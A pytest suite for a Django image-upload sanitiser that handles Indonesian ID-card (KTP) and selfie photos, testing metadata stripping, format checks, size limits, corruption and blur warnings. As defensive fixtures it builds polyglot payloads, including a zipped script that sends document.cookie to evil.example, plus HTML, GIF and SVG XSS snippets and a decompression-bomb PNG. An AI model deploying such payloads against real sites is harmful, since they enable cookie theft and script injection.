"""Safe image uploads (registrations/uploads.py): every sample is generated in memory.

No database. The samples are small (a 1011 x 638 "KTP" is a 300 dpi card) so the whole
file stays fast; the one big input (20 MB) is padding, never a big image.
"""

import functools
import io
import struct
import time
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import ExifTags, Image, ImageCms, ImageDraw, ImageFile, ImageFilter, PngImagePlugin

from registrations import uploads
from registrations.uploads import (
    BLUR_THRESHOLD,
    MAX_OUTPUT_SIDE,
    MAX_UPLOAD_BYTES,
    MIN_SIDE,
    REFUSAL_CODES,
    THUMBNAIL_SIDE,
    ProcessedImage,
    UploadRejected,
    assess_image_quality,
    laplacian_variance,
    process_image_upload,
    sharpness,
)

NOT_AN_IMAGE = "Berkas ini bukan foto yang dapat dibaca (JPG, PNG, atau HEIC)."
CORRUPT = "Berkas foto rusak atau tidak lengkap. Silakan ambil ulang."
BLURRED_KTP = "Foto tampak buram; pastikan tulisan pada KTP terbaca lalu ambil ulang."
KTP_PORTRAIT = "Foto KTP tampak miring/berdiri; putar ponsel mendatar dan ambil ulang."
KTP_SIZE = (1011, 638)  # 85.6 x 54 mm at 300 dpi


@pytest.fixture(autouse=True)
def _indonesian():
    with translation.override("id"):
        yield


# --- Samples ------------------------------------------------------------------------


@functools.lru_cache
def _card(size: tuple[int, int] = KTP_SIZE) -> Image.Image:
    """A KTP-like card: light blue, dark text-like strokes, a photo box on the right."""
    from PIL import ImageFont

    width, height = size
    img = Image.new("RGB", size, (205, 228, 246))
    draw = ImageDraw.Draw(img)
    small = ImageFont.load_default(size=max(8, int(height * 0.045)))
    big = ImageFont.load_default(size=max(10, int(height * 0.06)))
    draw.text((width / 2, height * 0.05), "PROVINSI JAWA BARAT", font=big, fill=(20, 20, 20), anchor="mt")
    draw.text((width / 2, height * 0.13), "KABUPATEN BANDUNG", font=big, fill=(20, 20, 20), anchor="mt")
    lines = [
        "NIK : 3204123456780001",
        "Nama : SITI NURHALIZA",
        "Tempat/Tgl Lahir : BANDUNG, 17-08-1990",
        "Jenis Kelamin : PEREMPUAN  Gol. Darah : O",
        "Alamat : JL. MERDEKA NO. 10",
        "RT/RW : 001/002",
        "Kel/Desa : SUKAMAJU",
        "Kecamatan : CIBIRU",
        "Agama : ISLAM",
        "Status Perkawinan : KAWIN",
        "Pekerjaan : WIRASWASTA",
        "Kewarganegaraan : WNI",
        "Berlaku Hingga : SEUMUR HIDUP",
    ]
    y = height * 0.24
    for line in lines:
        draw.text((width * 0.04, y), line, font=small, fill=(15, 15, 15))
        y += height * 0.054
    draw.rectangle((width * 0.72, height * 0.25, width * 0.95, height * 0.75), fill=(120, 130, 150))
    draw.ellipse((width * 0.77, height * 0.3, width * 0.9, height * 0.5), fill=(200, 170, 150))
    return img


def card(size: tuple[int, int] = KTP_SIZE) -> Image.Image:
    return _card(size).copy()


def encode(img: Image.Image, fmt: str, **params) -> bytes:
    buf = io.BytesIO()
    img.save(buf, format=fmt, **params)
    return buf.getvalue()


@functools.lru_cache
def ktp_jpeg() -> bytes:
    return encode(card(), "JPEG", quality=90)


@functools.lru_cache
def ktp_png() -> bytes:
    return encode(card(), "PNG")


@functools.lru_cache
def ktp_heic() -> bytes:
    return encode(card(), "HEIF", quality=80)


def process(data: bytes, **kwargs) -> ProcessedImage:
    return process_image_upload(io.BytesIO(data), **kwargs)


def refusal(data: bytes, **kwargs) -> UploadRejected:
    with pytest.raises(UploadRejected) as info:
        process(data, **kwargs)
    return info.value


def assert_clean_jpeg(content: bytes) -> Image.Image:
    """A baseline/progressive JPEG carrying no metadata segment at all, nothing after EOI."""
    assert content[:3] == b"\xff\xd8\xff"
    assert content.endswith(b"\xff\xd9")
    markers = jpeg_markers(content)
    metadata = [hex(m) for m in markers if 0xE1 <= m <= 0xEF or m == 0xFE]  # APP1..APP15, COM
    assert not metadata, f"metadata segments in output: {metadata}"
    for needle in (b"Exif", b"ICC_PROFILE", b"http://ns.adobe.com/xap", b"Photoshop 3.0"):
        assert needle not in content
    out = Image.open(io.BytesIO(content))
    assert out.format == "JPEG"
    assert out.mode == "RGB"
    assert not out.getexif()
    assert "icc_profile" not in out.info and "exif" not in out.info and "comment" not in out.info
    return out


def jpeg_markers(data: bytes) -> list[int]:
    """The segment markers of a JPEG up to its first scan."""
    assert data[:2] == b"\xff\xd8"
    markers, i = [], 2
    while i < len(data):
        assert data[i] == 0xFF, f"bad segment at {i}"
        marker = data[i + 1]
        markers.append(marker)
        if marker == 0xDA:  # SOS: entropy-coded data follows
            break
        i += 2 + int.from_bytes(data[i + 2 : i + 4], "big")
    return markers


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


@functools.lru_cache
def bilevel_png(width: int, height: int) -> bytes:
    """A complete, valid 1-bit PNG of any size: all-black rows compress ~1000:1."""
    row = b"\x00" + bytes((width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


class CountingReader(io.RawIOBase):
    """A binary stream without ``.size`` that counts the bytes handed out."""

    def __init__(self, data: bytes):
        self._inner = io.BytesIO(data)
        self.bytes_read = 0

    def readable(self):
        return True

    def read(self, n=-1):
        chunk = self._inner.read(n)
        self.bytes_read += len(chunk)
        return chunk


# --- Accepted formats ---------------------------------------------------------------


def test_jpeg_is_reencoded_clean_with_thumbnail_and_hash():
    import hashlib

    result = process(ktp_jpeg(), kind="ktp")
    out = assert_clean_jpeg(result.content)
    assert out.size == (result.width, result.height) == KTP_SIZE
    assert result.original_format == "JPEG"
    assert result.sha256 == hashlib.sha256(result.content).hexdigest()
    assert result.warnings == []
    assert_clean_jpeg(result.thumbnail)
    assert "progressive" in out.info or out.info.get("progression")


def test_png_with_alpha_is_composited_over_white():
    img = Image.new("RGBA", (800, 600), (0, 0, 0, 0))  # transparent (black) background
    img.paste(card((400, 252)).convert("RGBA"), (200, 174))
    ImageDraw.Draw(img).rectangle((10, 10, 60, 60), fill=(255, 0, 0, 128))  # half-transparent red
    result = process(encode(img, "PNG"))
    out = assert_clean_jpeg(result.content)
    assert result.original_format == "PNG"
    r, g, b = out.getpixel((700, 50))
    assert min(r, g, b) >= 250, "transparent area must come out white, not black"
    r, g, b = out.getpixel((35, 35))
    assert r >= 250 and 110 <= g <= 145 and 110 <= b <= 145, "50% red over white is pink"


def test_palette_png_with_transparency_is_composited_over_white():
    img = card((800, 505)).convert("P", palette=Image.Palette.ADAPTIVE, colors=64)
    transparent = img.getpixel((0, 0))  # the card's background colour
    result = process(encode(img, "PNG", transparency=transparent))
    out = assert_clean_jpeg(result.content)
    assert min(out.getpixel((5, 5))) >= 250


def test_heic_is_accepted_and_reencoded_as_jpeg():
    result = process(ktp_heic(), kind="ktp")
    out = assert_clean_jpeg(result.content)
    assert result.original_format == "HEIF"
    assert out.size == KTP_SIZE
    assert result.warnings == []


def test_multi_picture_jpeg_counts_as_jpeg_and_keeps_the_first_frame():
    first, second = card(), Image.new("RGB", KTP_SIZE, (255, 0, 0))
    data = encode(first, "MPO", save_all=True, append_images=[second])
    assert Image.open(io.BytesIO(data)).format == "MPO"
    result = process(data, kind="ktp")
    assert result.original_format == "JPEG"
    out = assert_clean_jpeg(result.content)
    assert out.getpixel((5, 5))[0] < 230, "first frame (the card), not the red one"


def test_format_comes_from_the_content_not_the_name_or_content_type():
    upload = SimpleUploadedFile("ktp.jpg", ktp_png(), content_type="image/jpeg")
    assert process_image_upload(upload, kind="ktp").original_format == "PNG"


def test_a_file_already_read_to_the_end_is_rewound():
    upload = SimpleUploadedFile("ktp.jpg", ktp_jpeg(), content_type="image/jpeg")
    upload.read()
    assert process_image_upload(upload).width == KTP_SIZE[0]


# --- Metadata and polyglots ---------------------------------------------------------


def test_exif_with_gps_is_stripped_and_orientation_applied():
    # Stored sideways (portrait pixels) with Orientation 6 = "rotate 90 degrees clockwise
    # to display": upright, it is a landscape card.
    stored = card().transpose(Image.Transpose.ROTATE_90)
    ImageDraw.Draw(stored).rectangle((0, 0, 40, 40), fill=(255, 0, 0))  # red mark, stored top-left
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "SecretPhone"
    exif[ExifTags.Base.DateTime] = "2024:08:17 10:00:00"
    exif[ExifTags.Base.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "S",
        ExifTags.GPS.GPSLatitude: (6.0, 54.0, 52.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (107.0, 36.0, 35.0),
    }
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = encode(
        stored,
        "JPEG",
        quality=90,
        exif=exif,
        icc_profile=srgb,
        comment=b"secret comment",
        xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">secret-xmp</x:xmpmeta>',
    )
    source = Image.open(io.BytesIO(data))
    assert source.getexif().get_ifd(ExifTags.IFD.GPSInfo), "the sample does carry GPS"
    assert source.size == (638, 1011)

    result = process(data, kind="ktp")

    out = assert_clean_jpeg(result.content)
    assert out.size == (1011, 638), "EXIF orientation applied: dimensions swapped"
    assert result.warnings == [], "upright after the transpose, so no 'portrait KTP' warning"
    red, green, _blue = out.getpixel((1011 - 20, 20))
    assert red > 200 and green < 60, "stored top-left ends up top-right after a 90 degree CW turn"
    for secret in (b"SecretPhone", b"2024:08:17", b"secret comment", b"secret-xmp", b"GPS"):
        assert secret not in result.content and secret not in result.thumbnail
    assert not Image.open(io.BytesIO(result.thumbnail)).getexif()


def test_png_text_chunks_do_not_survive():
    meta = PngImagePlugin.PngInfo()
    meta.add_text("Comment", "<script>alert(1)</script>")
    meta.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>secret-xmp</x:xmpmeta>")
    result = process(encode(card(), "PNG", pnginfo=meta))
    assert_clean_jpeg(result.content)
    assert b"<script>" not in result.content and b"secret-xmp" not in result.content


def _zip_payload() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("payload.js", "/*POLYGLOT-MARKER*/ fetch('https://evil.example/'+document.cookie)")
    return buf.getvalue()


@pytest.mark.parametrize(
    "appended",
    [
        pytest.param(_zip_payload(), id="zip"),
        pytest.param(b"%PDF-1.7\n1 0 obj<</POLYGLOT-MARKER>>endobj\n%%EOF", id="pdf"),
        pytest.param(b"<html><script>/*POLYGLOT-MARKER*/alert(document.cookie)</script></html>", id="html"),
    ],
)
def test_polyglot_jpeg_with_data_after_eoi_comes_out_clean(appended):
    data = ktp_jpeg() + appended
    assert Image.open(io.BytesIO(data)).format == "JPEG", "a valid image that carries a payload"
    result = process(data, kind="ktp")
    assert_clean_jpeg(result.content)
    for content in (result.content, result.thumbnail):
        assert b"PK\x03\x04" not in content
        assert b"POLYGLOT-MARKER" not in content
        assert appended not in content


def test_polyglot_png_with_data_after_iend_comes_out_clean():
    result = process(ktp_png() + _zip_payload())
    assert b"PK\x03\x04" not in result.content and b"POLYGLOT-MARKER" not in result.content


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/XObject/Subtype/Image>>stream\n", id="pdf"),
        pytest.param(b"<!DOCTYPE html><html><body><img src='data:image/jpeg;base64,", id="html"),
    ],
)
def test_documents_with_an_embedded_jpeg_are_refused(data):
    error = refusal(data + ktp_jpeg() + b"\nendstream endobj %%EOF</body></html>")
    assert error.code == "not_an_image"
    assert error.message == NOT_AN_IMAGE


def test_renamed_pdf_is_refused():
    pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
    upload = SimpleUploadedFile("ktp.jpg", pdf, content_type="image/jpeg")
    with pytest.raises(UploadRejected) as info:
        process_image_upload(upload, kind="ktp")
    assert info.value.code == "not_an_image"
    assert info.value.message == NOT_AN_IMAGE == str(info.value)


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(lambda: encode(card((640, 404)), "GIF"), id="gif"),
        pytest.param(lambda: b"GIF89a/*\x00\x00\x00\x00*/=1;alert(document.domain);//" + bytes(64), id="gif-js"),
        pytest.param(lambda: encode(card((640, 404)), "WEBP"), id="webp"),
        pytest.param(lambda: encode(card((640, 404)), "BMP"), id="bmp"),
        pytest.param(lambda: encode(card((640, 404)), "TIFF"), id="tiff"),
    ],
)
def test_other_image_formats_are_refused_as_unsupported(data):
    error = refusal(data(), kind="ktp")
    assert error.code == "unsupported_format"
    assert error.message == NOT_AN_IMAGE


@pytest.mark.parametrize(
    "data",
    [b"", b"hello", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", b"\x00" * 100],
)
def test_non_images_are_refused(data):
    assert refusal(data).code == "not_an_image"


# --- Size and pixel limits ----------------------------------------------------------


def test_twenty_megabytes_are_refused_reading_at_most_the_limit_plus_one():
    data = ktp_jpeg() + bytes(20 * 1024 * 1024 - len(ktp_jpeg()))  # valid JPEG header, 20 MB
    stream = CountingReader(data)
    assert not hasattr(stream, "size")
    with pytest.raises(UploadRejected) as info:
        process_image_upload(stream)
    assert info.value.code == "too_large"
    assert stream.bytes_read <= MAX_UPLOAD_BYTES + 1


def test_declared_size_over_the_limit_is_refused_before_reading():
    upload = SimpleUploadedFile("ktp.jpg", b"", content_type="image/jpeg")
    upload.size = 20 * 1024 * 1024
    with pytest.raises(UploadRejected) as info:
        process_image_upload(upload)
    assert info.value.code == "too_large"


def test_a_lying_small_size_does_not_let_a_big_file_through():
    data = ktp_jpeg() + bytes(MAX_UPLOAD_BYTES + 1 - len(ktp_jpeg()))
    upload = SimpleUploadedFile("ktp.jpg", data, content_type="image/jpeg")
    upload.size = 1000
    with pytest.raises(UploadRejected) as info:
        process_image_upload(upload)
    assert info.value.code == "too_large"


def test_exactly_the_limit_is_accepted():
    data = ktp_jpeg() + bytes(MAX_UPLOAD_BYTES - len(ktp_jpeg()))  # padding after EOI
    result = process_image_upload(CountingReader(data), kind="ktp")
    assert b"\x00" * 1024 not in result.content


def test_decompression_bomb_is_refused_from_the_header_without_decoding(monkeypatch):
    bomb = bilevel_png(20_000, 20_000)  # 400 megapixels, 8-bit in memory = 400 MB
    assert len(bomb) < 200_000
    loads = []
    original_load = ImageFile.ImageFile.load

    def spy_load(self):
        loads.append(self)
        return original_load(self)

    monkeypatch.setattr(ImageFile.ImageFile, "load", spy_load)
    started = time.perf_counter()
    error = refusal(bomb)
    assert time.perf_counter() - started < 1
    assert error.code == "too_many_pixels"
    assert loads == []


def test_over_max_pixels_but_under_pillows_own_limit_is_refused(monkeypatch):
    data = bilevel_png(7_000, 6_000)  # 42 MP: Pillow would not even warn
    assert Image.MAX_IMAGE_PIXELS > 7_000 * 6_000
    loads = []
    monkeypatch.setattr(ImageFile.ImageFile, "load", lambda self: loads.append(self))
    assert refusal(data).code == "too_many_pixels"
    assert loads == []


def test_pillows_decompression_bomb_warning_becomes_a_refusal(monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)  # warns above 1000, raises above 2000
    assert refusal(encode(Image.new("RGB", (40, 40)), "PNG")).code == "too_many_pixels"  # 1600: warning
    assert refusal(encode(Image.new("RGB", (50, 50)), "PNG")).code == "too_many_pixels"  # 2500: error


# --- Broken files -------------------------------------------------------------------


@pytest.mark.parametrize("sample", [ktp_jpeg, ktp_png, ktp_heic], ids=["jpeg", "png", "heic"])
def test_truncated_image_is_refused_as_corrupt(sample):
    data = sample()
    error = refusal(data[: len(data) * 2 // 3])
    assert error.code == "corrupt"
    assert error.message == CORRUPT


def test_truncated_image_is_refused_even_after_weasyprint_switched_pillow_to_lenient():
    from PIL import ImageFile

    ImageFile.LOAD_TRUNCATED_IMAGES = True  # what ``import weasyprint`` does process-wide
    data = ktp_jpeg()
    assert refusal(data[: len(data) * 2 // 3]).code == "corrupt"


@pytest.mark.parametrize("sample", [ktp_jpeg, ktp_png, ktp_heic], ids=["jpeg", "png", "heic"])
def test_header_only_is_refused_as_corrupt(sample):
    assert refusal(sample()[:40]).code == "corrupt"


def test_png_with_a_bad_checksum_is_refused_by_verify():
    data = bytearray(ktp_png())
    idat = data.index(b"IDAT")
    data[idat + 10] ^= 0xFF  # one flipped byte inside the compressed pixels
    assert refusal(bytes(data)).code == "corrupt"


# --- Conversions --------------------------------------------------------------------


def test_cmyk_jpeg_is_converted_to_rgb():
    img = Image.new("CMYK", (800, 600), (0, 0, 0, 0))  # white paper
    ImageDraw.Draw(img).rectangle((100, 100, 400, 400), fill=(255, 0, 0, 0))  # cyan
    ImageDraw.Draw(img).rectangle((500, 100, 700, 400), fill=(0, 0, 0, 255))  # black
    data = encode(img, "JPEG", quality=95)
    assert Image.open(io.BytesIO(data)).mode == "CMYK"
    out = assert_clean_jpeg(process(data).content)
    assert min(out.getpixel((10, 10))) >= 245
    r, g, b = out.getpixel((250, 250))
    assert r < 30 and g > 225 and b > 225
    assert max(out.getpixel((600, 250))) < 30


def test_sixteen_bit_greyscale_png_is_scaled_not_clipped():
    gradient = Image.linear_gradient("L").resize((600, 600))  # top 0 .. bottom 255
    sixteen = gradient.convert("I").point(lambda v: v * 257).convert("I;16")
    data = encode(sixteen, "PNG")
    assert Image.open(io.BytesIO(data)).mode == "I;16"
    out = assert_clean_jpeg(process(data).content)
    assert max(out.getpixel((300, 5))) < 15
    assert all(110 <= v <= 145 for v in out.getpixel((300, 300))), "mid-grey, not clipped to white"
    assert min(out.getpixel((300, 595))) > 240


def test_large_photo_is_downsized_and_thumbnail_is_small():
    data = encode(card((4000, 2524)), "JPEG", quality=85)
    result = process(data, kind="ktp")
    assert (result.width, result.height) == (MAX_OUTPUT_SIDE, 1262)
    thumb = Image.open(io.BytesIO(result.thumbnail))
    assert thumb.format == "JPEG"
    assert max(thumb.size) <= THUMBNAIL_SIDE
    assert thumb.size == (THUMBNAIL_SIDE, 202)
    assert result.warnings == []


def test_small_photo_is_not_enlarged():
    result = process(encode(card((800, 505)), "PNG"))
    assert (result.width, result.height) == (800, 505)
    assert max(Image.open(io.BytesIO(result.thumbnail)).size) == THUMBNAIL_SIDE


# --- Quality feedback ---------------------------------------------------------------


@pytest.mark.parametrize("kind", ["ktp", "selfie"])
def test_too_small_ktp_or_selfie_is_refused(kind):
    error = refusal(encode(card((400, 252)), "JPEG"), kind=kind)
    assert error.code == "too_small"
    assert error.message == "Foto terlalu kecil (400 × 252 px). Ambil ulang lebih dekat dengan kamera belakang."


def test_min_side_boundary():
    at_limit = encode(card((760, MIN_SIDE)), "JPEG", quality=90)
    assert process(at_limit, kind="ktp").height == MIN_SIDE
    assert refusal(encode(card((760, MIN_SIDE - 1)), "JPEG"), kind="ktp").code == "too_small"


def test_too_small_other_photo_is_only_a_warning():
    result = process(encode(card((400, 252)), "JPEG"), kind="document")
    assert result.warnings[0].startswith("Foto terlalu kecil (400 × 252 px)")


def test_min_side_is_judged_on_the_upload_not_the_downsized_output():
    # 6000 x 600 fits the limits; downsized to 2000 x 200 it would look "too small".
    strip = Image.new("RGB", (6000, 600), (255, 255, 255))
    strip.paste(card((951, 600)), (0, 0))
    result = process(encode(strip, "JPEG"), kind="ktp")
    assert (result.width, result.height) == (2000, 200)


def test_blur_threshold_separates_a_sharp_card_from_a_blurred_one():
    sharp = card()
    blurred = sharp.filter(ImageFilter.GaussianBlur(6))
    sharp_score, blurred_score = sharpness(sharp), sharpness(blurred)
    print(
        f"sharpness: sharp={sharp_score:.1f} blurred={blurred_score:.1f} threshold={BLUR_THRESHOLD}; "
        f"whole-frame Laplacian variance: sharp={laplacian_variance(sharp.convert('L')):.1f} "
        f"blurred={laplacian_variance(blurred.convert('L')):.1f}"
    )
    assert blurred_score < BLUR_THRESHOLD / 10
    assert sharp_score > BLUR_THRESHOLD * 10
    assert laplacian_variance(blurred.convert("L")) < BLUR_THRESHOLD < laplacian_variance(sharp.convert("L"))


def test_laplacian_variance_matches_a_direct_computation():
    import random
    import statistics

    rng = random.Random(7)
    width, height = 30, 20
    values = [rng.randrange(100, 156) for _ in range(width * height)]  # |Laplacian| stays <= 255
    img = Image.new("L", (width, height))
    img.putdata(values)

    def at(x, y):
        return values[y * width + x]

    direct = [
        at(x - 1, y) + at(x + 1, y) + at(x, y - 1) + at(x, y + 1) - 4 * at(x, y)
        for y in range(1, height - 1)
        for x in range(1, width - 1)
    ]
    assert laplacian_variance(img) == pytest.approx(statistics.pvariance(direct))
    assert laplacian_variance(Image.new("L", (50, 50), 128)) == 0


def test_blurred_ktp_warns_and_sharp_does_not():
    blurred = encode(card().filter(ImageFilter.GaussianBlur(6)), "JPEG", quality=90)
    assert process(blurred, kind="ktp").warnings == [BLURRED_KTP]
    assert process(ktp_jpeg(), kind="ktp").warnings == []


def test_blur_is_judged_on_the_sharpest_part_of_the_frame():
    # A small sharp card on a big featureless blurred background (a selfie, say).
    frame = Image.new("RGB", (2000, 1500), (90, 100, 110)).filter(ImageFilter.GaussianBlur(8))
    frame.paste(card((700, 442)), (650, 530))
    assert not assess_image_quality(frame, kind="selfie")


def test_portrait_ktp_warns_and_landscape_does_not():
    landscape = card()
    portrait = landscape.transpose(Image.Transpose.ROTATE_90)
    assert assess_image_quality(landscape, kind="ktp") == []
    assert assess_image_quality(portrait, kind="ktp") == [KTP_PORTRAIT]
    assert assess_image_quality(portrait, kind="selfie") == [], "a selfie is normally portrait"
    assert process(encode(portrait, "JPEG", quality=90), kind="ktp").warnings == [KTP_PORTRAIT]


def test_nearly_square_ktp_is_not_called_portrait():
    assert assess_image_quality(card((700, 760)), kind="ktp") == []


def test_assess_refuses_too_small_for_ktp_from_source_size():
    with pytest.raises(UploadRejected) as info:
        assess_image_quality(card(), kind="ktp", source_size=(300, 200))
    assert info.value.code == "too_small"
    assert assess_image_quality(card((400, 252)), kind="ktp", source_size=(1600, 1008)) == []


# --- API details --------------------------------------------------------------------


def test_processed_image_is_frozen_and_hashable():
    import dataclasses

    result = process(ktp_jpeg())
    with pytest.raises(dataclasses.FrozenInstanceError):
        result.width = 1  # type: ignore[misc]
    assert hash(result) == hash(dataclasses.replace(result, warnings=["x"]))


def test_text_file_is_a_programming_error():
    with pytest.raises(TypeError):
        process_image_upload(io.StringIO("not bytes"))


def test_upload_rejected_carries_code_and_plain_message():
    error = UploadRejected(uploads.MSG_CORRUPT, code="corrupt")
    assert error.code == "corrupt"
    assert type(error.message) is str and error.message == CORRUPT
    assert "corrupt" in repr(error)


# --- Fuzzing ------------------------------------------------------------------------

FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow], derandomize=True)


def _only_refusals(data: bytes, kind: str = "photo") -> None:
    try:
        result = process(data, kind=kind)
    except UploadRejected as error:
        assert error.code in REFUSAL_CODES
    else:
        assert result.content[:3] == b"\xff\xd8\xff"


@FUZZ
@given(st.binary(max_size=4096))
def test_random_bytes_only_ever_raise_upload_rejected(data):
    _only_refusals(data)


@FUZZ
@given(
    st.sampled_from([b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"\x00\x00\x00\x18ftypheic", b"GIF89a"]),
    st.binary(max_size=2048),
)
def test_random_bytes_behind_a_real_signature_only_raise_upload_rejected(signature, tail):
    _only_refusals(signature + tail)


@functools.lru_cache
def _small_samples() -> dict[str, bytes]:
    img = card((160, 101))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "Phone"
    exif[ExifTags.Base.GPSInfo] = {ExifTags.GPS.GPSLatitudeRef: "S", ExifTags.GPS.GPSLatitude: (6.0, 54.0, 52.0)}
    return {
        "jpeg": encode(img, "JPEG", quality=70, exif=exif),
        "png": encode(img.quantize(16), "PNG"),
        "heic": encode(img, "HEIF", quality=50),
    }


@pytest.mark.filterwarnings("ignore:Tag data larger than file:UserWarning")  # fuzzed EXIF
@settings(max_examples=150, deadline=None, derandomize=True)
@given(
    st.sampled_from(["jpeg", "png", "heic"]),
    st.lists(st.tuples(st.integers(min_value=0), st.integers(0, 255)), max_size=8),
    st.one_of(st.none(), st.integers(min_value=0)),
    st.sampled_from(["photo", "ktp"]),
)
def test_mutated_real_images_only_raise_upload_rejected(fmt, flips, cut, kind):
    data = bytearray(_small_samples()[fmt])
    for position, value in flips:
        data[position % len(data)] = value
    if cut is not None:
        data = data[: cut % len(data)]
    _only_refusals(bytes(data), kind=kind)
